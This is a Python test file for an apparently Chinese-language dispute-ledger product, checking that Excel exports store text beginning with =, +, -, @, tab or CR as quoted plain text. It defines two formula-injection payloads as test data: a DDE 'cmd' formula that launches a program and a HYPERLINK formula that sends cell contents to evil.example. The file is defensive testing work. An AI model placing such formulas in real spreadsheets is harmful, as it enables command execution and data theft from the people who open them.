"""Formula injection: every .xlsx the product writes stores user text beginning with =, +, -, @,
tab or CR as plain text behind a single quote (OWASP), so nothing runs when a colleague opens it."""

from __future__ import annotations

import base64
import datetime as dt
import io

from openpyxl import Workbook, load_workbook

from core.context import ServiceContext
from core.disputes.service import DisputeInput, record_dispute
from core.enums import ActionType, DisputeField, DisputeSource
from core.ledger.export import ExportColumn, build_workbook
from core.xlsx_safe import restore, save_workbook
from tests.http_fixtures import GraphQLClient
from tests.support import make_org

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


def _cells(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(content))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row if c.value]


def test_every_dangerous_first_character_is_neutralised() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    payloads = [CALC, LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    for text in [*payloads, "普通文本", "a=b"]:
        sheet.append([text, 5, -5])
    cells = _cells(save_workbook(book))
    texts = [v for v, _ in cells if isinstance(v, str)]
    assert texts == ["'" + p for p in payloads] + ["普通文本", "a=b"]
    assert all(kind == "s" for v, kind in cells if isinstance(v, str))  # no formula cell at all
    assert [v for v, _ in cells if isinstance(v, int)] == [5, -5] * 9  # numbers are left alone
    assert [restore(t) for t in texts[: len(payloads)]] == payloads


def test_list_writer_neutralises_the_payloads() -> None:
    content = build_workbook("台账", [ExportColumn("争议事项")], [[CALC], [LINK]], note="@注")
    values = [v for v, _ in _cells(content)]
    assert values == ["台账", "'@注", "争议事项", "'" + CALC, "'" + LINK]


async def test_exported_dispute_titles_do_not_become_formulas(
    ctx: ServiceContext, client: GraphQLClient
) -> None:
    org = await make_org(ctx)
    for title in (CALC, LINK):
        await record_dispute(
            ctx,
            DisputeInput(
                unit_id=org.agency.id,
                title=title,
                applicant_name="陈某",
                field=DisputeField.OTHER,
                action_type=ActionType.PENALTY,
                source=DisputeSource.SCREENING,
                received_date=dt.date(2024, 10, 8),
            ),
        )
    await ctx.session.commit()
    data = await client.ok("{ exportList(kind: DISPUTES) { base64 rowCount } ledgerTemplate { base64 } }")
    cells = _cells(base64.b64decode(data["exportList"]["base64"]))
    assert ("'" + CALC, "s") in cells and ("'" + LINK, "s") in cells
    assert all(not (isinstance(v, str) and v.startswith("=")) for v, _ in cells)
    template = _cells(base64.b64decode(data["ledgerTemplate"]["base64"]))
    assert all(kind != "f" for _, kind in template)
